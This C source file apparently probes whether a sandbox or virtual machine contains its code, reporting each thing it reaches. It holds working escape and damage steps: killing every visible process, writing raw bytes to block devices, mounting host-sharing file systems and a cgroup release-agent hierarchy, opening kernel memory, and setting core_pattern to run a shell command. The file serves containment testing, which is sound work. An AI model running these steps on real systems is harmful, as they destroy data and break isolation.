// looks for the recorder and for the host: processes to kill or trace, open
// descriptors, disks, file systems, networks, and ways to have the kernel start
// a program outside. Prints a line for each thing that it could reach.
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void processes(void)
{
    for (pid_t pid = 2; pid < 4096; pid++) {
        if (pid != getpid() && kill(pid, 0) == 0) {
            kill(pid, SIGKILL);
            printf("REACHED process %d\n", (int)pid);
        }
    }
    if (getppid() != 0 && getppid() != 1) {
        printf("REACHED the parent %d\n", (int)getppid());
    }
    FILE *status = fopen("/proc/self/status", "r");
    char line[256];
    int tracer = 0;
    while (status && fgets(line, sizeof line, status)) {
        if (sscanf(line, "TracerPid: %d", &tracer) == 1 && tracer != 0) {
            printf("REACHED the tracer %d\n", tracer);
        }
    }
}

// what processes hold open: a terminal, and nothing of the recorder's
static void descriptors(const char *directory)
{
    DIR *descriptors = opendir(directory);
    struct dirent *entry;
    while (descriptors && (entry = readdir(descriptors))) {
        char target[256] = "";
        ssize_t length = readlinkat(dirfd(descriptors), entry->d_name, target,
                                    sizeof target - 1);
        if (length > 0 && strncmp(target, "/dev/pts/", 9) != 0 &&
            strncmp(target, "/proc/", 6) != 0) {
            printf("REACHED %s by %s\n", target, directory);
        }
    }
}

static void mounts(void)
{
    static const char *const kinds[] = {"hostfs", "9p",   "virtiofs",
                                        "nfs",    "fuse", "vboxsf"};
    mkdir("/mnt/x", 0755);
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        if (mount("none", "/mnt/x", kinds[i], 0, "") == 0 ||
            mount("/", "/mnt/x", kinds[i], 0, "trans=virtio") == 0) {
            printf("REACHED a %s file system\n", kinds[i]);
        }
    }
    if (mount("none", "/mnt/x", "cgroup", 0, "none,name=x") == 0) {
        puts("REACHED a version 1 cgroup hierarchy with a release agent");
    }
}

static void search_disk(const char *path, unsigned major_number,
                        unsigned minor_number)
{
    static char block[1 << 20];
    mknod(path, S_IFBLK | 0600, makedev(major_number, minor_number));
    int fd = open(path, O_RDWR);
    if (fd >= 0 && write(fd, "x", 1) == 1 && fsync(fd) == 0) {
        printf("REACHED %s for writing\n", path);
    }
    if (fd >= 0) {
        close(fd);
    }
    fd = open(path, O_RDONLY);
    ssize_t got;
    while (fd >= 0 && (got = read(fd, block, sizeof block)) > 0) {
        // in two pieces, so that this source is not what is found
        if (memmem(block, (size_t)got,
                   "KIT-"
                   "CANARY-",
                   11)) {
            printf("REACHED the canary on %s\n", path);
        }
    }
}

static void network(void)
{
    struct if_nameindex *links = if_nameindex();
    for (size_t i = 0; links && links[i].if_index; i++) {
        if (strcmp(links[i].if_name, "lo") != 0) {
            printf("REACHED link %s\n", links[i].if_name);
        }
    }
    // QEMU's name for its host, and any address
    static const char *const addresses[] = {"10.0.2.2", "192.0.2.1"};
    for (size_t i = 0; i < sizeof addresses / sizeof *addresses; i++) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
        inet_pton(AF_INET, addresses[i], &to.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 ||
            errno != ENETUNREACH) {
            printf("REACHED %s\n", addresses[i]);
        }
        close(fd);
    }
}

static void kernel_memory(void)
{
    static const char *const files[] = {"/proc/kcore", "/dev/mem", "/dev/kmem"};
    mknod("/dev/mem", S_IFCHR | 0600, makedev(1, 1));
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        if (open(files[i], O_RDONLY) >= 0) {
            printf("REACHED %s\n", files[i]);
        }
    }
}

static void core_pattern(void)
{
    FILE *pattern = fopen("/proc/sys/kernel/core_pattern", "w");
    if (pattern) {
        fputs("|/bin/sh -c id>/dev/ttyS0", pattern);
        fclose(pattern);
    }
    pid_t child = fork();
    if (child == 0) {
        abort();
    }
    waitpid(child, NULL, 0);
}

static void hostile(void)
{
    char path[64];
    processes();
    descriptors("/proc/1/fd");
    descriptors("/proc/self/fd");
    mounts();
    for (unsigned disk = 0; disk < 8; disk++) {
        snprintf(path, sizeof path, "/dev/disk%u", disk);
        search_disk(path, 98, disk * 16);
        snprintf(path, sizeof path, "/dev/virtual%u", disk);
        search_disk(path, 254, disk * 16);
    }
    network();
    kernel_memory();
    core_pattern();
    puts("looked");
}
